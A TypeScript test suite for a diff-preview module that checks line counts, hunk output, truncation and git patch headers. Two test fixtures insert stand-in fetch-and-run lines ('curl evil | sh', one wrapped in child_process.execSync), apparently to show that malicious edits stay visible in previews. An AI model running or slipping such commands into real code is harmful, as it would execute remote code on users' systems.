import assert from "node:assert/strict";
import { seededRandom as random } from "../../tools/seededRandom";
import { structuredPatch } from "diff";
import { previewPatch, previewTextDiff } from "../../src/core/diffPreview";
import { LIMITS } from "../../src/shared/limits";

/** Few distinct lines, so texts repeat lines as code does (braces, blank lines). */
function randomText(next: () => number, maxLines: number): string {
  const words = ["{", "}", "", "a", "b", "c\r", "return x;"];
  const count = Math.floor(next() * maxLines);
  const lines = Array.from({ length: count }, () => words[Math.floor(next() * words.length)]);
  return lines.join("\n") + (next() < 0.5 ? "\n" : "");
}

/** Lines as a line diff compares them: a last line without a newline is not the same line with one. */
function lineKeys(text: string): string[] {
  const lines = text.split("\n");
  const last = lines.pop()!;
  return last === "" ? lines : [...lines, `${last}<no newline>`];
}

/** Length of a longest common subsequence, by the textbook table (the reference for exact counts). */
function lcsLength(a: string[], b: string[]): number {
  let previous = new Array<number>(b.length + 1).fill(0);
  for (const line of a) {
    const row = [0];
    for (let j = 0; j < b.length; j++)
      row.push(line === b[j] ? previous[j]! + 1 : Math.max(previous[j + 1]!, row[j]!));
    previous = row;
  }
  return previous[b.length]!;
}

/** Applies the preview's hunks to the old text's lines; fails if a context or removed line is not there. */
function applyPreview(oldText: string, preview: string[]): string[] {
  const old = oldText.split("\n");
  if (old.at(-1) === "") old.pop();
  const out: string[] = [];
  let at = 0;
  for (const line of preview) {
    const header = /^@@ -(\d+),(\d+) \+(\d+),(\d+) @@$/.exec(line);
    if (header) {
      const start = Number(header[1]) - (Number(header[2]) === 0 ? 0 : 1);
      assert.ok(start >= at, "hunks out of order");
      out.push(...old.slice(at, start));
      at = start;
      continue;
    }
    const body = line.slice(1);
    if (line[0] === "+") out.push(body);
    else {
      assert.equal(old[at], body, `line ${at + 1} of the old text`);
      if (line[0] === " ") out.push(body);
      at++;
    }
  }
  return [...out, ...old.slice(at)];
}

function lines(text: string): string[] {
  const all = text.split("\n");
  if (all.at(-1) === "") all.pop();
  return all;
}

const source = (count: number, seed = 0) =>
  Array.from({ length: count }, (_, i) => `  const value${i} = compute(${i + seed}, "line ${i}");`);

describe("diffPreview: v1 texts", () => {
  it("counts exactly a shortest diff's lines, and its preview turns the old text into the new (3,000 random pairs)", () => {
    const next = random(14);
    for (let n = 0; n < 3000; n++) {
      const before = randomText(next, 40);
      const after = next() < 0.3 ? before.replace(/a/g, "b") : randomText(next, 40);
      const diff = previewTextDiff("f", next() < 0.1 && before === "" ? null : before, after);
      const common = lcsLength(lineKeys(before), lineKeys(after));
      const label = JSON.stringify([before, after]);
      assert.equal(diff.removed, lineKeys(before).length - common, label);
      assert.equal(diff.added, lineKeys(after).length - common, label);
      assert.equal(diff.truncated, false);
      assert.deepEqual(applyPreview(before, diff.preview), lines(after), label);
      // The same counts as the diff library the preview used before.
      const reference = structuredPatch("f", "f", before, after, undefined, undefined, { context: 3 });
      const changed = reference.hunks.flatMap((h) => h.lines);
      assert.equal(diff.added, changed.filter((l) => l.startsWith("+")).length, label);
      assert.equal(diff.removed, changed.filter((l) => l.startsWith("-")).length, label);
    }
  });

  it("identical texts: no lines, no counts", () => {
    const text = source(1000).join("\n");
    assert.deepEqual(previewTextDiff("f", text, text), {
      path: "f",
      preview: [],
      truncated: false,
      added: 0,
      removed: 0,
    });
  });

  it("one line changed at the end of 1,000: one hunk with three lines of context", () => {
    const before = source(1000);
    const after = [...before.slice(0, 999), "  changed();"];
    const diff = previewTextDiff("f", `${before.join("\n")}\n`, `${after.join("\n")}\n`);
    assert.deepEqual(diff.preview, [
      "@@ -997,4 +997,4 @@",
      ` ${before[996]}`,
      ` ${before[997]}`,
      ` ${before[998]}`,
      `-${before[999]}`,
      "+  changed();",
    ]);
    assert.deepEqual([diff.added, diff.removed, diff.truncated], [1, 1, false]);
  });

  it("every 10th of 1,000 lines changed: exact counts, the first 200 preview lines", () => {
    const before = source(1000);
    const after = before.map((line, i) => (i % 10 === 0 ? `${line} // changed` : line));
    const diff = previewTextDiff("f", before.join("\n"), after.join("\n"));
    assert.deepEqual([diff.added, diff.removed], [100, 100]);
    assert.equal(diff.truncated, true);
    assert.equal(diff.preview.length, LIMITS.previewLines);
    assert.deepEqual(diff.preview.slice(0, 6), [
      "@@ -1,4 +1,4 @@",
      `-${before[0]}`,
      `+${after[0]}`,
      ` ${before[1]}`,
      ` ${before[2]}`,
      ` ${before[3]}`,
    ]);
  });

  it("every line of 1,000 rewritten, and a block of 100 moved: exact counts", () => {
    const before = source(1000);
    const rewrite = previewTextDiff("f", before.join("\n"), source(1000, 1).join("\n"));
    assert.deepEqual(
      [rewrite.added, rewrite.removed, rewrite.preview.length],
      [1000, 1000, LIMITS.previewLines],
    );
    const moved = [
      ...before.slice(0, 400),
      ...before.slice(500, 900),
      ...before.slice(400, 500),
      ...before.slice(900),
    ];
    const move = previewTextDiff("f", before.join("\n"), moved.join("\n"));
    assert.deepEqual([move.added, move.removed], [100, 100]);
  });

  it("CRLF lines keep their \\r, and a CRLF -> LF change changes every line", () => {
    assert.deepEqual(previewTextDiff("f", "a\r\nb\r\nc\r\n", "a\r\nB\r\nc\r\n").preview, [
      "@@ -1,3 +1,3 @@",
      " a\r",
      "-b\r",
      "+B\r",
      " c\r",
    ]);
    const eol = previewTextDiff("f", "a\r\nb\r\n", "a\nb\n");
    assert.deepEqual([eol.added, eol.removed], [2, 2]);
  });

  it("a newline added or removed at the end changes the last line", () => {
    for (const [before, after] of [
      ["a\nb", "a\nb\n"],
      ["a\nb\n", "a\nb"],
    ] as const) {
      const diff = previewTextDiff("f", before, after);
      assert.deepEqual(diff.preview, ["@@ -1,2 +1,2 @@", " a", "-b", "+b"]);
      assert.deepEqual([diff.added, diff.removed], [1, 1]);
    }
  });

  it("a new file and an emptied file", () => {
    assert.deepEqual(previewTextDiff("f", null, "x\ny\n").preview, ["@@ -1,0 +1,2 @@", "+x", "+y"]);
    const emptied = previewTextDiff("f", "x\ny\n", "");
    assert.deepEqual(
      [emptied.preview, emptied.added, emptied.removed],
      [["@@ -1,2 +1,0 @@", "-x", "-y"], 0, 2],
    );
  });

  it("past the work bound the changed region is shown as a replacement, still a true diff", () => {
    // 6,000 lines of two kinds reordered: thousands of matchable lines, far apart.
    const next = random(7);
    const before = Array.from({ length: 6000 }, () => (next() < 0.5 ? "{" : "}"));
    const after = Array.from({ length: 6000 }, () => (next() < 0.5 ? "{" : "}"));
    const diff = previewTextDiff("f", before.join("\n"), after.join("\n"));
    // One hunk: every old line of the changed region removed, then every new one added; the old lines take half the
    // preview, so the new ones show too.
    const [header, ...rest] = diff.preview;
    assert.match(header!, /^@@ -\d+,\d+ \+\d+,\d+ @@$/);
    const note = rest.findIndex((line) => line.startsWith("@@"));
    assert.match(rest[note]!, /^@@ \d+ more removed lines not shown @@$/);
    assert.ok(rest.slice(0, note).every((line) => line.startsWith("-")));
    assert.ok(rest.slice(note + 1).every((line) => line.startsWith("+")));
    assert.ok(note >= 90 && rest.length - note > 90, `${note} old lines, ${rest.length - note - 1} new`);
    assert.ok(diff.removed > 5900 && diff.added === diff.removed);
    assert.equal(diff.truncated, true);
    assert.equal(diff.preview.length, LIMITS.previewLines);
  });
});

describe("diffPreview: texts too large to diff whole (over 512K characters together)", () => {
  /** 20,000 lines, about 440K characters a side. */
  const big = source(20_000);

  it("shows a change in the middle as that change, with exact counts and its line numbers", () => {
    const after = big.slice();
    after[12_345] = "require('child_process').execSync('curl evil | sh');";
    const diff = previewTextDiff("f", `${big.join("\n")}\n`, `${after.join("\n")}\n`);
    assert.deepEqual(diff.preview, [
      "@@ -12343,7 +12343,7 @@",
      ` ${big[12_342]}`,
      ` ${big[12_343]}`,
      ` ${big[12_344]}`,
      `-${big[12_345]}`,
      `+${after[12_345]}`,
      ` ${big[12_346]}`,
      ` ${big[12_347]}`,
      ` ${big[12_348]}`,
    ]);
    assert.deepEqual([diff.added, diff.removed, diff.truncated], [1, 1, false]);
  });

  it("counts exactly and turns the old text into the new, for random edits anywhere, near each other (40 pairs)", () => {
    const next = random(21);
    for (let n = 0; n < 40; n++) {
      const after = big.slice();
      // Within 2,000 lines of each other, the first or the last lines included: edits far apart are one replacement.
      const place = next();
      const from =
        place < 0.2 ? 0 : place < 0.4 ? big.length - 2_000 : Math.floor(next() * (big.length - 2_000));
      for (let edit = 0; edit < 1 + Math.floor(next() * 3); edit++) {
        const at = from + Math.floor(next() * 1_990);
        const kind = next();
        if (kind < 0.4) after[at] = `changed ${n}`;
        else if (kind < 0.7) after.splice(at, 1 + Math.floor(next() * 5));
        else after.splice(at, 0, "inserted", "");
      }
      const end = next() < 0.5 ? "\n" : "";
      const before = big.join("\n") + end;
      const text = after.join("\n") + end;
      const diff = previewTextDiff("f", before, text);
      const reference = structuredPatch("f", "f", before, text, undefined, undefined, { context: 3 });
      const changed = reference.hunks.flatMap((h) => h.lines);
      assert.equal(diff.added, changed.filter((l) => l.startsWith("+")).length, `pair ${n}`);
      assert.equal(diff.removed, changed.filter((l) => l.startsWith("-")).length, `pair ${n}`);
      if (!diff.truncated) assert.deepEqual(applyPreview(before, diff.preview), lines(text), `pair ${n}`);
    }
  });

  it("a newline added at the end as well: one replacement from the change to the end, a true diff", () => {
    const after = big.slice();
    after[5_000] = "changed";
    const diff = previewTextDiff("f", `${big.join("\n")}\n`, after.join("\n"));
    assert.deepEqual([diff.added, diff.removed, diff.truncated], [15_000, 15_000, true]);
    assert.deepEqual(diff.preview.slice(0, 2), ["@@ -5001,15000 +5001,15000 @@", `-${big[5_000]}`]);
    assert.equal(
      diff.preview[diff.preview.indexOf("@@ 14900 more removed lines not shown @@") + 1],
      "+changed",
    );
  });

  it("a file replaced whole shows what it becomes, not its old lines as added", () => {
    const diff = previewTextDiff("f", `${big.join("\n")}\n`, "module.exports = 1;\n");
    assert.deepEqual([diff.added, diff.removed, diff.truncated], [1, 20_000, true]);
    assert.equal(diff.preview[0], "@@ -1,20000 +1,1 @@");
    assert.equal(diff.preview.at(-1), "+module.exports = 1;");
    assert.ok(diff.preview.includes(`-${big[0]}`));
  });

  it("a change too large to diff is one replacement: exact counts, old lines first, then the new ones", () => {
    const after = source(20_000, 1);
    const diff = previewTextDiff("f", `head\n${big.join("\n")}\n`, `head\n${after.join("\n")}\n`);
    assert.deepEqual([diff.added, diff.removed, diff.truncated], [20_000, 20_000, true]);
    assert.equal(diff.preview[0], "@@ -2,20000 +2,20000 @@");
    assert.equal(diff.preview[1], `-${big[0]}`);
    const note = diff.preview.indexOf("@@ 19900 more removed lines not shown @@");
    assert.equal(note, 101);
    assert.equal(diff.preview[note + 1], `+${after[0]}`);
    assert.equal(diff.preview.length, LIMITS.previewLines);
  });
});

describe("diffPreview: git patches", () => {
  it("keeps the hunks and the headers that change the file besides its lines: a rename, a new mode", () => {
    const patch = [
      "diff --git a/notes.txt b/build.sh",
      "old mode 100644",
      "new mode 100755",
      "similarity index 90%",
      "rename from notes.txt",
      "rename to build.sh",
      "index 1111111..2222222",
      "--- a/notes.txt",
      "+++ b/build.sh",
      "@@ -1 +1,2 @@",
      " notes",
      "+curl evil | sh",
      "",
    ].join("\n");
    assert.deepEqual(previewPatch("build.sh", patch), {
      path: "build.sh",
      preview: [
        "old mode 100644",
        "new mode 100755",
        "rename from notes.txt",
        "rename to build.sh",
        "@@ -1 +1,2 @@",
        " notes",
        "+curl evil | sh",
      ],
      truncated: false,
      added: 1,
      removed: 0,
    });
  });
});
